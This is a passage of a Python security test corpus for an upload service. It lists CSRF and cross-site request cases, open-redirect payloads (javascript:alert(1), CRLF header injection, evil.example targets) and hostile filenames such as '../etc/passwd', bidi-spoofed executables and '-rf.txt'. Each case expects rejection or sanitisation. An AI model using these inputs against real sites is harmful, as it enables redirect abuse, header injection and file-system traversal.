    _request("csrf-wrong", "csrf", "presign with a made-up token", presign(csrf="wrong"), refused(400, "csrf_failed")),
    _request(
        "csrf-other-session",
        "csrf",
        "presign with another user's valid token",
        presign(csrf="foreign"),
        refused(400, "csrf_failed"),
    ),
    _request(
        "csrf-delete",
        "csrf",
        "deleting an upload without a token",
        Request("DELETE", "/api/uploads/<id>", csrf="none", with_upload=True),
        refused(400, "csrf_failed"),
    ),
    _request(
        "csrf-logout", "csrf", "logout form without a token", Request("POST", "/auth/logout", csrf="none"), refused(400)
    ),
    _request(
        "csrf-login",
        "csrf",
        "login form without a token (login CSRF)",
        Request("POST", "/auth/login", form={"email": OWNER, "password": PASSWORD}, signed_in=False, csrf="none"),
        refused(400),
    ),
    # Cross-site requests: another site can neither send a token nor read an answer.
    _request(
        "cross-site-form",
        "cross-site",
        "form POST from another site",
        Request("POST", "/api/uploads", form={"filename": "a.txt", "size": "5"}, headers=CROSS_SITE, csrf="none"),
        refused(400, "csrf_failed"),
    ),
    _request(
        "cross-site-text-plain",
        "cross-site",
        "`text/plain` JSON from another site (no preflight)",
        raw_presign(
            '{"filename": "a.txt", "size": 5, "content_type": "text/plain"}',
            "text/plain",
            headers={**CROSS_SITE, "Origin": "null"},
            csrf="none",
        ),
        refused(400, "csrf_failed"),
    ),
    _request(
        "cross-site-preflight",
        "cross-site",
        "CORS preflight from another site",
        Request(
            "OPTIONS",
            "/api/uploads",
            headers={
                **CROSS_SITE,
                "Access-Control-Request-Method": "POST",
                "Access-Control-Request-Headers": "content-type,x-csrftoken",
            },
        ),
        Answer(200, cors_denied=True),
    ),
    _request(
        "cross-site-referer-https",
        "cross-site",
        "over HTTPS, a valid token but a foreign `Referer`",
        presign(https=True, headers={"Referer": "https://evil.example/"}),
        refused(400, "csrf_failed"),
    ),
    _request(
        "cross-site-no-referer-https",
        "cross-site",
        "over HTTPS, a valid token and no `Referer`",
        presign(https=True),
        refused(400, "csrf_failed"),
    ),
    # Open redirects: only same-site relative paths are followed after login.
    _next("next-absolute", "`next=https://evil.example/`", "https://evil.example/"),
    _next("next-protocol-relative", "`next=//evil.example/`", "//evil.example/"),
    _next("next-backslash", "`next=/\\evil.example` (browsers read `\\` as `/`)", "/\\evil.example"),
    _next("next-javascript", "`next=javascript:alert(1)`", "javascript:alert(1)"),
    _next("next-crlf", "`next=/%0D%0ASet-Cookie:…` (header injection)", "/\r\nSet-Cookie: a=b"),
    _next("next-tab", "`next=/%09/evil.example` (browsers drop the tab)", "/\t/evil.example"),
    _next("next-relative", "`next=/files?after=abc` is kept", "/files?after=abc", "/files?after=abc"),
    # Filenames: NFC, no control or format characters, no paths, no hidden or option-like names, 255 bytes.
    _name("name-nul", "NUL", "a\x00.txt"),
    _name("name-crlf", "CR/LF", "a\r\nb.txt"),
    _name("name-tab", "tab", "a\tb.txt"),
    *[
        _name(f"name-bidi-u{code}", f"U+{code.upper()} {label}", f"invoice{chr(int(code, 16))}gnp.exe")
        for code, label in BIDI.items()
    ],
    _name("name-zero-width", "U+200B zero-width space", "pay\u200bpal.txt"),
    _name("name-dotdot", "`../etc/passwd`", "../etc/passwd"),
    _name("name-backslash", "`dir\\a.txt`", "dir\\a.txt"),
    _name("name-leading-dot", "`.htaccess`", ".htaccess"),
    _name("name-leading-hyphen", "`-rf.txt`", "-rf.txt"),
    _name("name-256-bytes", "128 × `é`: 128 characters, 256 UTF-8 bytes", "é" * 128),
    _request(
        "name-255-bytes",
        "filename",
        "251 × `x` + `.txt`: exactly 255 bytes",
        presign("x" * 251 + ".txt"),
        Answer(201, filename="x" * 251 + ".txt"),
    ),
    _request(
        "name-nfc",
        "filename",
        "`Cafe` + U+0301 combining accent",
        presign("Cafe\u0301.txt"),
        Answer(201, filename="Caf\u00e9.txt"),
    ),
    _request(
        "name-trailing-dots",
        "filename",
        "`notes.txt. . ` (Windows strips these)",
        presign("notes.txt. . "),
        Answer(201, filename="notes.txt"),
    ),
    _device("download-con", "CON.txt", "attachment; filename=\"_CON.txt\"; filename*=UTF-8''_CON.txt"),
    _device(
        "download-lpt-superscript",
        "LPT\u00b9.txt",
        "attachment; filename=\"_LPT1.txt\"; filename*=UTF-8''_LPT%C2%B9.txt",
    ),
]

#: The attacks the issue asks the corpus to cover, by category.
REQUIRED_CATEGORIES = {
    "disguise",
    "polyglot",
    "pdf",
    "archive",
    "malware",
    "image",
    "size",
    "json",
    "csrf",
    "cross-site",
    "redirect",
    "filename",
}


#: Cases that take seconds each to make or for clamd to read (PDF and ZIP bombs): marked slow, so
#: `make test-fast` leaves them out; `make test` runs them.
SLOW = {
    "pdf-flate-bomb-object-stream",
    "pdf-object-stream-bombs",
    "pdf-flate-bomb-content",
    "pdf-many-packed-objects",
    "zip-10000-entries",
    "zip-bomb-1gib",
}


def markdown_table(cases=CASES):
    """The corpus as a Markdown table: id, category, input, expected outcome."""

    def cell(text):
        return text.replace("|", "\\|").replace("\n", " ")

    rows = ["| id | category | input | expected outcome |", "| --- | --- | --- | --- |"]
    for case in cases:
        rows.append(
            f"| `{case.id}` | {case.category} | {cell(case.what)}, {cell(case.input.describe())} "
            f"| {cell(case.expect.describe())} |"
        )
    return "\n".join(rows)


if __name__ == "__main__":
    print(markdown_table())
    print(f"\n{len(CASES)} cases.")
